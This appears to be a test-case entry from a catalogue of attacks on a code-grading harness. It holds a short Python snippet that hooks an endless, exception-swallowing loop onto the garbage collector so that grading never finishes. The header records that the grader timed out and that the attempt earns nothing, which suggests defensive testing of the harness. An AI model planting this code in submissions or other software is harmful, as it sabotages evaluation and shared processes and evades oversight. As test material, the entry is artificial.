# attack: collector_that_never_ends
# kind: exhaust
# tries: hangs a function that never ends on the garbage collector, which runs in everybody's code
# seen: grading does not end in time
# deserves: nothing
# extra: before 3.2a
# %%
import gc


def stay(phase, info):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


gc.callbacks.append(stay)
